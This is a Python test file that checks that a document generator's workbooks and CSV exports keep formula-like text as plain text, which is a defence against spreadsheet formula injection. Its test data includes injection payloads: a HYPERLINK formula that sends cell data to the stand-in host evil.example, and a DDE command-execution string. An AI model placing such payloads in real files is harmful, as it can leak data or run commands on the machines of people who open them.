"""Text that a spreadsheet would run as a formula stays text in every workbook and CSV docgen writes."""

from __future__ import annotations

import csv
import io
import zipfile

import yaml
from openpyxl import load_workbook

from docgen.annexes.consolidate import consolidate, consolidated_workbook
from docgen.annexes.submissions import read_yaml_submission
from docgen.annexes.workbook import read_workbook, write_workbook
from docgen.kinds import render_data
from docgen.render.sheets import csv_bytes, formula_like
from tests.workers.test_queue import SAMPLES

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1"]


def _report(tmp_path, remarks: list[str]):
    data = yaml.safe_load((SAMPLES / "annexes/shanyang.yaml").read_text(encoding="utf-8"))
    base = data["institutions"][0]
    data["institutions"] = [{**base, "institution": f"{base['institution']}{n}", "remarks": r}
                            for n, r in enumerate(remarks)]
    path = tmp_path / "shanyang.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    tables = read_yaml_submission(path)
    assert not tables.problems, tables.problems
    return tables


def _formula_cells(xlsx: bytes) -> list[str]:
    """Every cell stored as a formula, and every text cell starting like one without Excel's quote prefix."""
    book = load_workbook(io.BytesIO(xlsx))
    bad = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (formula_like(cell.value) and not cell.quotePrefix):
                    bad.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return bad


def _raw_formulas(xlsx: bytes) -> bool:
    """Whether any sheet part holds an <f> (formula) element."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_the_district_workbook_keeps_formula_like_text_as_text_and_reads_it_back(tmp_path):
    tables = _report(tmp_path, HOSTILE)
    xlsx = write_workbook(tables.district, tables)
    assert not _formula_cells(xlsx) and not _raw_formulas(xlsx)
    back = read_workbook(xlsx, "back.xlsx")
    assert [r.remarks for r in back.rows["institutions"]] == [r.remarks for r in tables.rows["institutions"]]
    assert "=cmd|' /C calc'!A0" in [r.remarks for r in back.rows["institutions"]]  # read back as the text it was


def test_the_consolidated_workbook_keeps_formula_like_text_as_text(tmp_path):
    xlsx = consolidated_workbook(consolidate([_report(tmp_path, HOSTILE)]))
    assert not _formula_cells(xlsx) and not _raw_formulas(xlsx)
    values = {c.value for s in load_workbook(io.BytesIO(xlsx)).worksheets for r in s.iter_rows() for c in r}
    assert "=cmd|' /C calc'!A0" in values  # the text itself is kept, as text


def test_the_application_workbook_keeps_formula_like_text_as_text():
    from docgen.annexes.application_workbook import write_application_workbook
    from docgen.kinds import parse_record
    from docgen.records.base import read_yaml

    data = read_yaml(SAMPLES / "applications/gaoxin-park.yaml")
    data["address"] = "=HYPERLINK(\"http://evil.example\")"
    _, app = parse_record(data)
    xlsx = write_application_workbook(app)
    assert not _formula_cells(xlsx) and not _raw_formulas(xlsx)


def test_csv_fields_that_look_like_formulas_get_a_leading_quote():
    data = csv_bytes(["名称", "数量"], [[h, 3] for h in HOSTILE] + [["普通文字", -4]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert rows[-1] == ["普通文字", "-4"]  # numbers stay numbers


def test_a_plaque_batch_manifest_neutralises_a_hostile_station_name():
    record = {"kind": "plaque-batch", "proof_dpi": 30,
              "stations": [{"name": "知识产权保护工作站-2+3站", "bureau": "山阳区"}]}
    [artifact] = render_data(record, "batch")
    with zipfile.ZipFile(io.BytesIO(artifact.data)) as z:
        manifest = next(n for n in z.namelist() if n.endswith("清单.csv"))
        text = z.read(manifest).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(not formula_like(field) for row in rows for field in row), rows
